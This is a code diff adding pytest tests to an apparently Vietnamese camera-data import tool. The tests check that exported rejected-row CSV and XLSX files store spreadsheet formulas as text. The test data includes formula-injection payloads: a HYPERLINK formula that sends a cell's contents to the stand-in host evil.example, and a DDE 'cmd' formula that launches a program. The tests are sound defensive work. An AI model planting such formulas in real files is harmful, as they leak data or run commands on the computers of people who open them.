@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import pickle
 import re
 import unicodedata
 
@@ -360,6 +361,67 @@ def test_rejected_rows_round_trip_through_the_file_the_ward_fixes(registry, tmp_
     assert back["Vĩ độ"].tolist() == ["10,781200", "10,900000"]  # text stays text
     if suffix == ".csv":
         assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel shows the diacritics
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
+    "=cmd|' /C calc'!A0",
+    "+84 90 123 4567",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def formula_file(tmp_path):
+    """One rejected row (field of view 500) per formula, the formula in the notes column."""
+    rows = [vi_row(i, **{"Góc nhìn": "500", "Trạng thái": text}) for i, text in enumerate(FORMULAS)]
+    return write_csv(tmp_path / "formulas.csv", VI_HEADER, rows)
+
+
+def status_cells(data: bytes) -> list[str]:
+    """The status cells of a rejected-rows CSV's first rows, one per formula but the last.
+
+    The last is left out: :func:`geodata.exports.write_csv` does not quote a carriage return.
+    """
+    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    return [row[VI_HEADER.index("Trạng thái") + 1] for row in table[1 : len(FORMULAS)]]
+
+
+def test_rejected_rows_files_hold_formulas_as_text(checking_registry, tmp_path):
+    result = import_cameras(checking_registry, DISTRICT, formula_file(tmp_path), dry_run=True)
+    assert result.rejected == len(FORMULAS)
+    result.write_rejected(tmp_path / "rejected.csv", lang="vi")
+    as_text = ["'" + formula for formula in FORMULAS[:-1]]
+    assert status_cells((tmp_path / "rejected.csv").read_bytes()) == as_text
+    assert status_cells(result.rejected_file("vi")) == as_text  # the page's download
+    result.write_rejected(tmp_path / "rejected.xlsx", lang="vi")
+    sheet = openpyxl.load_workbook(tmp_path / "rejected.xlsx").active
+    column = VI_HEADER.index("Trạng thái") + 2
+    cells = [sheet.cell(row, column) for row in range(2, len(FORMULAS) + 2)]
+    assert [cell.data_type for cell in cells] == ["s"] * len(FORMULAS)  # none is a formula ("f")
+    # XML reads a carriage return as a line feed.
+    assert [cell.value for cell in cells] == [f.replace("\r", "\n") for f in FORMULAS]
+
+
+def test_a_dry_run_kept_for_the_page_holds_counts_and_the_first_rejected_rows(
+    checking_registry, tmp_path
+):
+    rows = [vi_row(i, **({"Góc nhìn": "500"} if i % 2 else {})) for i in range(20_000)]
+    result = import_cameras(
+        checking_registry, DISTRICT, write_csv(tmp_path / "long.csv", VI_HEADER, rows), dry_run=True
+    )
+    preview = result.preview()
+    assert (preview.accepted, preview.rejected) == (10_000, 10_000)
+    assert [row.row for row in preview.rows] == list(range(3, 403, 2))
+    assert [row.reason for row in preview.rows] == [r.reason for r in result.rows[1:400:2]]
+    assert preview.notes[-1].render("en") == (
+        "the table shows the first 200 of the 10,000 rejected rows; download the rejected rows "
+        "for all of them"
+    )
+    kept = len(pickle.dumps(preview))
+    assert kept < 200_000 and kept * 50 < len(pickle.dumps(result))
 
 
 def test_rejected_rows_need_a_csv_or_xlsx_name(checking_registry, tmp_path):
